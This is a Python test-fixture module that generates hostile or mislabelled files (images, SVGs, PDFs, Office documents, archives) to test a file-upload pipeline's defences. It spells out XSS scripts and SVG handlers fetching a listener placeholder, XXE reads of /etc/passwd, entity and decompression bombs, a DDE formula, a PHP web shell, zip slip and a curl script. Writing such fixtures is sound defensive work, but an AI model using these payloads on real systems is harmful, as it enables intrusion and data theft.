"""Files that mean harm, or are none of what they say: each with what becomes of it.

`CORPUS` maps a file's name to its bytes and what the note on it says; an empty note means that the file is used, with
nothing of its harm. `{listener}` in a payload is an address that nobody may fetch, `MARK` a text that no page may show.
"""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterable
from functools import cache

from docx import Document
from PIL import Image
from pptx import Presentation
from pypdf import PdfWriter
from pypdf.actions import JavaScript

from tools.made_files import png_chunk, png_that_says, printed, recording, saved, sheet

MARK = "PWNED-4711"
SCRIPT = f"<script>fetch('{{listener}}?{MARK}')</script>"
_SVG = (
    '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 90 60">'
)
_SHAPE = '<path d="M9 9h70v40z" fill="#b03010"/>'
_NAMESPACE = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"

Case = tuple[bytes, str]


@cache
def corpus(listener: str) -> dict[str, Case]:
    """Every file by its name."""
    return {**_pictures(), **_drawings(listener), **_documents(listener), **_others(listener)}


def recordings() -> dict[str, bytes]:
    """What is no recording, though it was sent as one."""
    return {
        "program.webm": b"MZ" + bytes(4000),
        "cut.ogg": b"OggS\x00\x02" + bytes(200),
        "zeros.mp3": b"ID3\x04\x00\x00\x00\x00\x00\x00" + bytes(5000),
        "liar.wav": _wave_that_lies(),
        "bomb.webm": b"\x1aE\xdf\xa3" + b"\x01" + b"\xff" * 7 + bytes(2000),
        "page.m4a": SCRIPT.encode() * 20,
    }


# Pictures


def _saved(form: str, size: tuple[int, int] = (320, 200), **options: object) -> bytes:
    image = Image.effect_noise(size, 80).convert("RGB")
    out = io.BytesIO()
    image.save(out, form, **options)
    return out.getvalue()


def _zip(entries: Iterable[tuple[str, bytes]]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as packed:
        for name, data in entries:
            packed.writestr(name, data)
    return out.getvalue()


def _jpeg_that_says(width: int, height: int) -> bytes:
    data = bytearray(_saved("JPEG"))
    at = data.index(b"\xff\xc0") + 5
    data[at : at + 4] = struct.pack(">HH", height, width)
    return bytes(data)


def _pictures() -> dict[str, Case]:
    png = _saved("PNG")
    jpeg = _saved("JPEG", comment=SCRIPT.encode())
    profile = b"bad\0\0" + zlib.compress(b"no profile")
    text = b"Comment\0\0" + zlib.compress(bytes(80_000_000))
    return {
        "page-in-comment.jpg": (jpeg, ""),
        "archive-behind.png": (png + _zip([("run.sh", MARK.encode())]), ""),
        "document-in-text.png": (
            png[:33] + png_chunk(b"tEXt", b"Title\0%PDF-1.7 " + MARK.encode()) + png[33:],
            "",
        ),
        "called-jpg.jpg": (_saved("WEBP"), ""),
        "bad-profile.png": (png[:33] + png_chunk(b"iCCP", profile) + png[33:], ""),
        "script-behind.gif": (_saved("GIF") + b";/*" + SCRIPT.encode() + b"*/", ""),
        "<img src=x onerror=alert(4711)>.png": (_saved("PNG", (200, 200)), ""),
        "bomb.png": (png_that_says(50_000, 50_000), "million pixels"),
        "long-bomb.png": (png_that_says(4_000_000, 30), "damaged|million pixels|line"),
        "text-bomb.png": (png[:33] + png_chunk(b"zTXt", text) + png[33:], "damaged"),
        "cut.png": (png[: len(png) // 2], "damaged"),
        "wrong-length.png": (png[:33] + struct.pack(">I", 2**31 - 1) + b"tEXtx", "damaged"),
        "says-large.jpg": (_jpeg_that_says(65_000, 65_000), "million pixels"),
        "cut.jpg": (_saved("JPEG")[:900], "damaged"),
        "script.gif": (b"GIF89a/*" + b"*/=1;" + SCRIPT.encode(), "damaged"),
        "large-screen.gif": (b"GIF89a\xff\xff\xff\xff\x80\0\0" + bytes(40), "million pixels|damaged"),
        "cut.webp": (_saved("WEBP")[:300], "damaged"),
        "cut.avif": (_saved("AVIF")[:200], "damaged"),
        "empty.heic": (b"\0\0\0\x18ftypheic\0\0\0\0mif1heic", "damaged"),
        "point.png": (_saved("PNG", (4, 4)), "too small"),
        "scan.tiff": (_saved("TIFF"), "no document or picture"),
        "paint.bmp": (_saved("BMP"), "no document or picture"),
        "layers.psd": (b"8BPS\0\1" + bytes(400), "no document or picture"),
        "cursor.ico": (b"\0\0\2\0\1\0" + bytes(100), "no document or picture"),
    }


# Drawings


def _drawings(listener: str) -> dict[str, Case]:
    uses = "".join(f'<g id="u{n}">' + f'<use xlink:href="#u{n - 1}"/>' * 10 + "</g>" for n in range(1, 12))
    laughs = "".join(
        f'<!ENTITY l{n} "{"&l" + str(n - 1) + ";" if n else "ha"}{"&l" + str(n - 1) + ";" if n else ""}">'
        for n in range(20)
    )
    drawn = {
        "script.svg": f"{_SVG}{SCRIPT.format(listener=listener)}{_SHAPE}</svg>",
        "event.svg": _SVG.replace("<svg ", f"<svg onload=\"fetch('{listener}')\" ") + f"{_SHAPE}</svg>",
        "image.svg": f'{_SVG}<image href="{listener}/a.png" width="9" height="9"/>{_SHAPE}</svg>',
        "file.svg": f'{_SVG}<image xlink:href="file:///etc/passwd" width="9" height="9"/>{_SHAPE}</svg>',
        "style.svg": f"{_SVG}<style>@import url({listener}/a.css);</style>{_SHAPE}</svg>",
        "foreign.svg": f"{_SVG}<foreignObject><iframe src='{listener}'/></foreignObject>{_SHAPE}</svg>",
        "link.svg": f'{_SVG}<a href="javascript:alert(4711)">{_SHAPE}</a></svg>',
    }
    refused = {
        "entities.svg": (f"<!DOCTYPE svg [{laughs}]>{_SVG}<title>&l19;</title>{_SHAPE}</svg>", "entities"),
        "outside.svg": (
            f'<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>{_SVG}<title>&x;</title>{_SHAPE}</svg>',
            "entities",
        ),
        "uses.svg": (f'{_SVG}<g id="u0">{_SHAPE}</g>{uses}<use xlink:href="#u11"/></svg>', "damaged|too long"),
        "letters.svg": (f"{_SVG}<text>{MARK}</text></svg>", "paths"),
        "line.svg": ('<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 1 99999"><path d="M0 0h1"/></svg>', "line"),
    }  # fmt: skip
    return {name: (text.encode(), "") for name, text in drawn.items()} | {
        name: (text.encode(), note) for name, (text, note) in refused.items()
    }


# Documents


def _pdf(finish: Callable[[PdfWriter], object] = lambda writer: None) -> bytes:
    page = io.BytesIO(printed(["Pumpkin soup 85 CZK"]))
    writer = PdfWriter(clone_from=page)
    finish(writer)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _raw_pdf(*objects: bytes) -> bytes:
    """A PDF of these objects, without a table of them: readers look for them."""
    body = b"".join(b"%d 0 obj\n%s\nendobj\n" % (n, each) for n, each in enumerate(objects, start=1))
    return b"%PDF-1.7\n" + body + b"trailer << /Root 1 0 R >>\n%%EOF\n"


def _pdf_bomb() -> bytes:
    packed = zlib.compress(zlib.compress(b"(a) Tj " * 40_000_000, 9), 9)
    stream = b"<< /Length %d /Filter [/FlateDecode /FlateDecode] >>\nstream\n%s\nendstream" % (
        len(packed),
        packed,
    )
    return _raw_pdf(
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] /Contents 4 0 R >>",
        stream,
    )


def _docx(*changes: tuple[str, bytes]) -> bytes:
    """A document of Word's, with these parts instead of its own or beside them."""
    document = Document()
    document.add_paragraph("Pumpkin soup 85 CZK")
    parts = dict(changes)
    with zipfile.ZipFile(io.BytesIO(saved(document))) as packed:
        own = [(name, packed.read(name)) for name in packed.namelist() if name not in parts]
    return _zip([*own, *parts.items()])


def _word(declared: str, text: str) -> bytes:
    body = f'<w:document xmlns:w="{_NAMESPACE}"><w:body><w:p><w:r><w:t>{text}</w:t></w:r></w:p></w:body></w:document>'
    return f"<?xml version='1.0'?><!DOCTYPE d [{declared}]>{body}".encode()


def _xlsx(listener: str) -> bytes:
    return sheet(("Pumpkin soup", "85 CZK"), (f'=HYPERLINK("{listener}","{MARK}")', "=cmd|' /C calc'!A0"))


def _documents(listener: str) -> dict[str, Case]:
    laughs = '<!ENTITY a "ha">' + "".join(
        f'<!ENTITY {chr(98 + n)} "{f"&{chr(97 + n)};" * 10}">' for n in range(9)
    )
    script = f"app.launchURL('{listener}')"
    return {
        "script.pdf": (_pdf(lambda writer: writer.add_open_action(JavaScript(script))), ""),
        "file-inside.pdf": (_pdf(lambda writer: writer.add_attachment("run.sh", MARK.encode())), ""),
        "macro.docm": (_docx(("word/vbaProject.bin", b"\xd0\xcf\x11\xe0" + MARK.encode())), ""),
        "entity.docx": (
            _docx(
                (
                    "word/document.xml",
                    _word('<!ENTITY x SYSTEM "file:///etc/passwd">', "Pumpkin soup 85 CZK &x;"),
                )
            ),
            "",
        ),
        "formula.xlsx": (_xlsx(listener), ""),
        "locked.pdf": (_pdf(lambda writer: writer.encrypt("secret")), "password"),
        "cut.pdf": (_pdf()[:300], "damaged"),
        "circle.pdf": (
            _raw_pdf(b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [2 0 R] /Count 9 >>"),
            "damaged|no text|too long",
        ),
        "bomb.pdf": (_pdf_bomb(), "damaged|no text|too long"),
        "laughs.docx": (_docx(("word/document.xml", _word(laughs, "&j;"))), "damaged|no text|too long"),
        "bomb.docx": (_docx(("word/media/a.xml", b"0" * 200_000_000)), "unpacks"),
        "bomb.xlsx": (_zip([("xl/workbook.xml", b"<a/>"), ("xl/a.xml", b"0" * 200_000_000)]), "unpacks"),
        "empty.pptx": (saved(Presentation()), "no text"),
        "cut.docx": (_docx()[:3000], "no document"),
        "old.doc": (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(900), "no document"),
    }


# All else


def _deep_zip() -> bytes:
    inner = _zip([("a.txt", b"0" * 1000)])
    for _ in range(40):
        inner = _zip([("a.zip", inner)])
    return inner


def _wave_that_lies() -> bytes:
    data = bytearray(recording(bytes(320)))
    data[40:44] = b"\xff\xff\xff\x7f"
    return bytes(data)


def _others(listener: str) -> dict[str, Case]:
    page = f"<html>{SCRIPT.format(listener=listener)}</html>".encode()
    return {
        "photo-that-is-a-page.jpg": (page, "called .jpg"),
        "menu-that-is-a-page.pdf": (page, "called .pdf"),
        "page.html": (page, "called .html"),
        "run.sh": (f"#!/bin/sh\ncurl {listener}\n".encode(), "called .sh"),
        "shell.php": (b"<?php system($_GET['c']); ?>", "called .php"),
        "object.rtf": (b"{\\rtf1{\\object\\objdata 0105}}", "called .rtf"),
        "link.url": (f"[InternetShortcut]\nURL={listener}\n".encode(), "called .url"),
        "program.exe": (b"MZ\x90\0" + bytes(500), "no document or picture"),
        "program.pdf": (b"\x7fELF\2\1\1" + bytes(500), "no document or picture"),
        "deep.zip": (_deep_zip(), "no document or picture"),
        "climbing.zip": (_zip([("../../etc/cron.d/x", MARK.encode())]), "no document or picture"),
        "film.mp4": (b"\0\0\0\x18ftypmp42" + bytes(900), "film"),
        "zeros.txt": (b"Hello\0\0\0\0\0" * 200, "no document or picture"),
        "nothing.txt": (b"", "no document or picture"),
        "half-pair.txt": (b"\xff\xfe\x00\xd8\x41\x00", "no document or picture"),
    }
